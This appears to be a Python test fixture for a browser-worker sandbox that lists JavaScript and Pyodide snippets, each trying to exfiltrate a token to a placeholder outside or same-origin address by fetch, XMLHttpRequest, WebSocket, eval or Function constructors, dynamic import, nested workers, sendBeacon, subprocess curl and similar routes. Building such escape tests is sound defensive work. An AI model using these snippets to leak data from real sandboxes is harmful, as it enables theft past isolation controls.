"""Ways out of a worker, each carrying a token that would be recognised wherever it arrives.

`{elsewhere}`, `{here}`: addresses of another origin and of the site's own; `{port}`: where datagrams are
heard; `{token}`: what is to get out. JavaScript runs in the worker, Python in the interpreter inside.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Escape:
    """One attempt. `works_unsealed` is False where a browser offers it to no module worker at all."""

    name: str
    code: str
    works_unsealed: bool = True
    #: `import()` is part of the language and cannot be taken away, only forbidden by the worker's policy, to
    #: which the debugger is not subject. It is tried by a script of its own.
    is_import: bool = False


_VIA_BLOB = (
    "new Worker(URL.createObjectURL(new Blob([\"fetch('{elsewhere}/{token}')\"],"
    " {{type: 'text/javascript'}})))"
)

JAVASCRIPT = (
    Escape("fetch", "fetch('{elsewhere}/{token}', {{mode: 'no-cors'}})"),
    Escape("fetch of an unknown path here", "fetch('{here}/{token}')"),
    Escape("fetch of a known path with a query", "fetch('{here}/manifest.json?{token}')"),
    Escape("POST here", "fetch('{here}/', {{method: 'POST', body: '{token}'}})"),
    Escape("fetch of a prototype", "WorkerGlobalScope.prototype.fetch.call(self, '{elsewhere}/{token}')"),
    Escape(
        "fetch up the prototype chain",
        "(() => {{ let o = self; while (o && !Object.hasOwn(o, 'fetch')) o = Object.getPrototypeOf(o);"
        " return o.fetch.call(self, '{elsewhere}/{token}'); }})()",
    ),
    Escape("Request", "fetch(new Request('{elsewhere}/{token}', {{mode: 'no-cors'}}))"),
    Escape(
        "XMLHttpRequest",
        "(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{elsewhere}/{token}'); x.send(); }})()",
    ),
    Escape(
        "XMLHttpRequest that waits",
        "(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{here}/{token}', false); x.send(); }})()",
    ),
    Escape("WebSocket", "void new WebSocket('{elsewhere_ws}/{token}')"),
    Escape("WebSocketStream", "void new WebSocketStream('{elsewhere_ws}/{token}')"),
    Escape("EventSource", "void new EventSource('{elsewhere}/{token}')"),
    Escape("WebTransport", "void new WebTransport('https://127.0.0.1:{port}/{token}')"),
    Escape("importScripts", "importScripts('{elsewhere}/{token}')", works_unsealed=False),
    Escape("import elsewhere", "import('{elsewhere}/{token}')", is_import=True),
    Escape("import here", "import('{here}/docsieve.js?{token}')", is_import=True),
    Escape("import of data", "import('data:text/javascript,fetch(\"{elsewhere}/{token}\")')", is_import=True),
    Escape("nested worker", "void new Worker('{here}/{token}')"),
    Escape("nested worker of a blob", _VIA_BLOB),
    Escape("shared worker", "void new SharedWorker('{here}/{token}')", works_unsealed=False),
    Escape("service worker", "navigator.serviceWorker.register('{here}/{token}')", works_unsealed=False),
    Escape("sendBeacon", "navigator.sendBeacon('{elsewhere}/{token}')", works_unsealed=False),
    Escape("RTCPeerConnection", "void new RTCPeerConnection()", works_unsealed=False),
    Escape("font", "new FontFace('x', 'url({elsewhere}/{token})').load()"),
    Escape("WebAssembly by address", "WebAssembly.compileStreaming(fetch('{here}/{token}'))"),
    Escape("Function", "[].constructor.constructor(\"return fetch('{elsewhere}/{token}')\")()"),
    Escape(
        "async function's constructor",
        "(async () => {{}}).constructor(\"return import('{elsewhere}/{token}')\")()",
    ),
    Escape(
        "generator's constructor",
        "(function*() {{}}).constructor(\"yield fetch('{elsewhere}/{token}')\")().next()",
    ),
    Escape("eval", "(0, eval)(\"fetch('{elsewhere}/{token}')\")"),
    Escape("text given to setTimeout", "void setTimeout(\"fetch('{elsewhere}/{token}')\")"),
    Escape("BroadcastChannel", "new BroadcastChannel('out').postMessage('{token}')"),
    Escape("IndexedDB", "void indexedDB.open('{token}')"),
    Escape("Cache Storage", "caches.open('{token}')"),
    Escape("Cache that fetches", "caches.open('c').then((c) => c.add('{here}/{token}'))"),
    Escape(
        "private file system",
        "navigator.storage.getDirectory().then((d) => d.getFileHandle('{token}', {{create: true}}))",
    ),
    Escape("lock", "void navigator.locks.request('{token}', () => new Promise(() => {{}}))"),
    Escape("postMessage", "self.postMessage({{ type: 'result', stolen: '{token}' }})"),
    Escape(
        "postMessage of a prototype",
        "DedicatedWorkerGlobalScope.prototype.postMessage.call(self, '{token}')",
        works_unsealed=False,
    ),
)

#: `js()` is the interpreter's way to the worker's globals, by whichever door is still open.
PYTHON = (
    Escape("js.fetch", "js().fetch('{elsewhere}/{token}')"),
    Escape("js.fetch here", "js().fetch('{here}/{token}')"),
    Escape(
        "js.XMLHttpRequest", "x = js().XMLHttpRequest.new(); x.open('GET', '{elsewhere}/{token}'); x.send()"
    ),
    Escape("js.WebSocket", "js().WebSocket.new('{elsewhere_ws}/{token}')"),
    Escape("js.EventSource", "js().EventSource.new('{elsewhere}/{token}')"),
    Escape("js.Worker", "js().Worker.new('{here}/{token}')"),
    Escape("js.eval", "js().eval(\"fetch('{elsewhere}/{token}')\")"),
    Escape("js.Function", "js().Function.new(\"fetch('{elsewhere}/{token}')\")()"),
    Escape("js.setTimeout with text", "js().setTimeout(\"fetch('{elsewhere}/{token}')\", 0)"),
    Escape("js.indexedDB", "js().indexedDB.open('{token}')"),
    Escape("js.BroadcastChannel", "js().BroadcastChannel.new('out').postMessage('{token}')"),
    Escape("js.caches", "js().caches.open('{token}')"),
    Escape("js.postMessage", "js().postMessage('{token}')"),
    Escape("run_js", "from pyodide.code import run_js; run_js(\"fetch('{elsewhere}/{token}')\")"),
    Escape(
        "run_js of an import", "from pyodide.code import run_js; run_js(\"import('{elsewhere}/{token}')\")"
    ),
    Escape("pyodide.http.open_url", "from pyodide.http import open_url; open_url('{elsewhere}/{token}')"),
    Escape(
        "pyodide.http.pyfetch",
        "import asyncio, pyodide.http; asyncio.ensure_future(pyodide.http.pyfetch('{elsewhere}/{token}'))",
    ),
    Escape("pyodide_js.loadPackage", "import pyodide_js; pyodide_js.loadPackage('{elsewhere}/{token}.whl')"),
    Escape(
        "micropip's way",
        "import pyodide_js; pyodide_js._api.loadDynlib('{elsewhere}/{token}.so', True)",
        works_unsealed=False,
    ),
    Escape(
        "constructor of any proxy",
        "any_proxy().constructor.constructor(\"return fetch('{elsewhere}/{token}')\")()",
    ),
    Escape(
        "urllib", "import urllib.request; urllib.request.urlopen('{elsewhere}/{token}')", works_unsealed=False
    ),
    Escape(
        "socket",
        "import socket; s = socket.create_connection(('127.0.0.1', {port})); "
        "s.send(b'GET /{token} HTTP/1.0\\r\\n\\r\\n')",
        works_unsealed=False,
    ),
    Escape("name resolution", "import socket; socket.gethostbyname('{token}.example')", works_unsealed=False),
    Escape(
        "subprocess",
        "import subprocess; subprocess.run(['curl', '{elsewhere}/{token}'])",
        works_unsealed=False,
    ),
    Escape(
        "emscripten_run_script",
        "import ctypes; ctypes.CDLL(None).emscripten_run_script(b\"fetch('{elsewhere}/{token}')\")",
        works_unsealed=False,
    ),
    Escape("webbrowser", "import webbrowser; webbrowser.open('{elsewhere}/{token}')", works_unsealed=False),
)
